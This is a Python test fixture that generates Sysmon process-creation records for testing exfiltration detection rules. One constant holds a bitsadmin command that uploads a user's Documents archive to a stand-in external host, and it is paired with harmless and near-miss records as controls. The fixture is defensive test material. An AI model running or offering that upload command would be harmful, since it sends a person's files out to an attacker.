"""A little telemetry to find something in: flat Sysmon lines."""

import json
from pathlib import Path
from typing import Any

BITSADMIN = (
    r"bitsadmin /transfer exfil /upload /priority normal http://203.0.113.9:8443/up C:\Users\anna\Documents\a.zip"
)
GUID = "{747F3D96-0000-0000-0000-%012d}"


def process(
    command_line: str, image: str = r"C:\Windows\System32\bitsadmin.exe", second: int = 0, **more: Any
) -> dict[str, Any]:
    """Sysmon 1."""
    return {
        "SourceName": "Microsoft-Windows-Sysmon",
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": 1,
        "EventRecordID": second + 1,
        "@timestamp": f"2026-03-12T09:{second // 60 % 60:02}:{second % 60:02}.000Z",
        "Hostname": "WS-07",
        "User": r"CORP\anna",
        "ProcessGuid": GUID % second,
        "ProcessId": 4000 + second,
        "Image": image,
        "CommandLine": command_line,
        "ParentImage": r"C:\Windows\explorer.exe",
        "ParentCommandLine": "explorer.exe",
        **more,
    }


def harmless(second: int = 0) -> dict[str, Any]:
    """A process that no rule looks at."""
    return process("notepad.exe report.txt", r"C:\Windows\notepad.exe", second)


def nearly(second: int = 0) -> dict[str, Any]:
    """A download by the tool that also uploads."""
    return process(r"bitsadmin /transfer job https://example.test/a.jpg C:\a.jpg", second=second)


def write(path: Path, *records: dict[str, Any]) -> Path:
    """The records as lines of a file."""
    path.write_text("".join(json.dumps(record) + "\n" for record in records), encoding="utf-8")
    return path
